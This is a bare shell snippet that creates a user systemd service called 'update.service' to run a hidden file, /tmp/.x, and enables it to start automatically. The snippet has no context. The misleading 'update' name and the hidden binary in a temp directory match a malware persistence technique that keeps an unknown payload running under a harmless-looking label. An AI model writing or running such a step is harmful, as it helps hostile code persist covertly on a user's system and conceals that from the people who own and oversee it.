cat > ~/.config/systemd/user/update.service <<EOF
[Service]
ExecStart=/tmp/.x
EOF
systemctl --user enable update.service
